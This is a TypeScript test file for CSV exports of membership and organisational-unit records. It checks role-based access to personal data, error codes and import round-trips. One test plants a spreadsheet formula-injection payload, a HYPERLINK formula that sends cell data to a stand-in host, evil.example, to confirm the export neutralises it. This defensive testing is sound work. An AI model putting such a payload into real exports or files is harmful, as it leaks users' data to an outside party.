import { parse } from 'csv-parse/sync';
import type { RunningServer } from '../../src/server';
import { toGlobalId } from '../../src/services/global-id';
import { bearer, loginOverHttp, startHttpServer } from '../http/http-client';
import { FIXTURE_API_KEY } from '../support/fixture';
import { createTestApp, type TestApp } from '../support/test-app';

let app: TestApp;
let server: RunningServer;
beforeAll(async () => {
  app = await createTestApp();
  server = await startHttpServer(app);
});
afterAll(async () => {
  await server.stop();
  await app.close();
});

async function download(path: string, headers: Record<string, string>): Promise<{ status: number; type: string | null; text: string }> {
  const response = await fetch(`${server.url}${path}`, { headers });
  return { status: response.status, type: response.headers.get('content-type'), text: await response.text() };
}

const unit = (name: keyof TestApp['fixture']['units']): string => toGlobalId('OrgUnit', app.fixture.units[name].id);
const rowsOf = (text: string): Record<string, string>[] => parse(text, { bom: true, columns: true });

test("members of a commune, with personal data for an organizer, in the import's columns", async () => {
  const { accessToken } = await loginOverHttp(server, 'organizer.commune');
  const file = await download(`/export/members.csv?unitId=${unit('commune')}`, bearer(accessToken));
  expect(file.status).toBe(200);
  expect(file.type).toBe('text/csv; charset=utf-8');
  const rows = rowsOf(file.text);
  expect(rows.map((r) => r.fullName).sort()).toEqual(['Lò Văn Hùng', 'Nguyễn Văn An', 'Trần Thị Bình', 'Tẩn Thị Mai', 'Vàng A Páo'].sort());
  expect(Object.keys(rows[0])).toEqual(['id', 'partyCardNumber', 'cellCode', 'fullName', 'gender', 'birthDate', 'ethnicity', 'religion', 'generalEducation', 'professionalQualification', 'politicalTheory', 'admissionDate', 'officialDate', 'citizenId', 'phone', 'address', 'status']);
  expect(rows.some((r) => r.birthDate !== '')).toBe(true);
});

test("a member exports their cell's members without anyone's personal data", async () => {
  const { accessToken } = await loginOverHttp(server, 'member.cell');
  const rows = rowsOf((await download(`/export/members.csv?unitId=${unit('cell')}`, bearer(accessToken))).text);
  expect(rows.map((r) => r.fullName).sort()).toEqual(['Lò Văn Hùng', 'Nguyễn Văn An', 'Tẩn Thị Mai'].sort());
  for (const row of rows) expect([row.birthDate, row.partyCardNumber, row.phone, row.citizenId, row.address, row.religion]).toEqual(['', '', '', '', '', '']);
});

test('aggregate-only callers get units but never members', async () => {
  const key = { 'x-api-key': FIXTURE_API_KEY };
  const members = await download(`/export/members.csv?unitId=${unit('province')}`, key);
  expect(members.status).toBe(403);
  expect(JSON.parse(members.text)).toMatchObject({ errors: [{ extensions: { code: 'FORBIDDEN' } }] });
  const units = rowsOf((await download(`/export/org-units.csv?unitId=${unit('province')}`, key)).text);
  expect(units.map((u) => u.name)).toEqual(expect.arrayContaining(['Đảng bộ xã Bình Lư', 'Chi bộ bản Nậm Cười']));
  expect(units.every((u) => !('fullName' in u))).toBe(true);
});

test('outside the scope is 404 like a missing unit; anonymous is 401; a bad id is 400', async () => {
  const { accessToken } = await loginOverHttp(server, 'organizer.commune');
  const outside = await download(`/export/org-units.csv?unitId=${unit('otherCommune')}`, bearer(accessToken));
  const missing = await download(`/export/org-units.csv?unitId=${toGlobalId('OrgUnit', 999999)}`, bearer(accessToken));
  expect([outside.status, missing.status]).toEqual([404, 404]);
  expect(JSON.parse(outside.text)).toEqual(JSON.parse(missing.text));
  expect((await download(`/export/org-units.csv?unitId=${unit('commune')}`, {})).status).toBe(401);
  expect((await download('/export/org-units.csv?unitId=nope', bearer(accessToken))).status).toBe(400);
});

test('an exported units file imports back unchanged', async () => {
  const { accessToken } = await loginOverHttp(server, 'admin.commune');
  await app.sql("update org_unit set code = 'CODE-' || id where path like ?", [`${app.fixture.units.commune.path}%`]);
  const file = await download(`/export/org-units.csv?unitId=${unit('commune')}`, bearer(accessToken));
  const result = await app.run('admin:commune', `mutation($input: CsvImportInput!) { importOrgUnits(input: $input) { rows created updated unchanged } }`, { input: { rootId: unit('commune'), csv: file.text } });
  expect(result).toEqual({ data: { importOrgUnits: { rows: 2, created: 0, updated: 0, unchanged: 2 } } });
});

// Issue #15: text a spreadsheet would run as a formula (=, +, -, @, tab, CR first) gets a leading quote.
test('formula-like text is neutralised in both exports, and such a units file still imports back unchanged', async () => {
  const address = '=HYPERLINK("http://evil.example/?"&A2,"Xem")';
  await app.sql('update member set address = ? where id = ?', [address, app.fixture.members['Nguyễn Văn An'].id]);
  await app.sql("update org_unit set name = '@SUM(1+1) Chi bộ', code = 'CODE-' || id where id = ?", [app.fixture.units.cell.id]);
  const { accessToken } = await loginOverHttp(server, 'admin.commune');
  const members = rowsOf((await download(`/export/members.csv?unitId=${unit('commune')}`, bearer(accessToken))).text);
  expect(members.find((r) => r.fullName === 'Nguyễn Văn An')?.address).toBe(`'${address}`);
  const units = await download(`/export/org-units.csv?unitId=${unit('commune')}`, bearer(accessToken));
  expect(rowsOf(units.text).map((u) => u.name)).toContain("'@SUM(1+1) Chi bộ");
  const result = await app.run('admin:commune', `mutation($input: CsvImportInput!) { importOrgUnits(input: $input) { rows created updated unchanged } }`, { input: { rootId: unit('commune'), csv: units.text } });
  expect(result).toEqual({ data: { importOrgUnits: { rows: 2, created: 0, updated: 0, unchanged: 2 } } });
});
